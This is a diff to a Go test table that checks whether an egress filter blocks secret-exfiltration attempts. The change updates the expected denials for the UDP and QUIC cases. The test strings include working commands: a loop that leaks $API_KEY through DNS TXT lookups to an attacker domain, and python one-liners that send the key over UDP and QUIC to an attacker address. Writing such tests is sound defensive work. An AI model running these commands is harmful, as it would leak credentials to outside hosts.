@@ -67,8 +67,8 @@ func TestAttacks(t *testing.T) {
 		{"placeholder in the URL", curl + `"https://` + api + `/x?key=$API_KEY"`, "request.deny", "placeholder_in_url"},
 		{"DNS exfiltration in TXT lookups", `for l in $(printf %s "$API_KEY" | base32 | tr -d = | tr A-Z a-z | fold -w 40); do ` +
 			`dig +short +tries=1 +time=2 TXT $l.` + evil + `; dig +short +tries=1 +time=2 TXT $l.exfil.` + w.Zone + `; done`, "dns.deny", "name not allowed"},
-		{"UDP exfiltration", `python3 -c 'import os,socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(os.environ["API_KEY"].encode(), ("` + w.Attacker.String() + `", 9999))'`, "", ""},
-		{"QUIC", `python3 -c 'import os,socket; s=socket.socket(socket.AF_INET6,socket.SOCK_DGRAM); s.sendto(b"\xc0quic" + os.environ["API_KEY"].encode(), ("` + w.Attacker6.String() + `", 443))'`, "", ""},
+		{"UDP exfiltration", `python3 -c 'import os,socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(os.environ["API_KEY"].encode(), ("` + w.Attacker.String() + `", 9999))'`, "capture.deny", "deny_udp"},
+		{"QUIC", `python3 -c 'import os,socket; s=socket.socket(socket.AF_INET6,socket.SOCK_DGRAM); s.sendto(b"\xc0quic" + os.environ["API_KEY"].encode(), ("` + w.Attacker6.String() + `", 443))'`, "capture.deny", "deny_udp6"},
 		{"raw socket", `python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)'`, "", ""},
 	}
 	for _, tt := range tests {
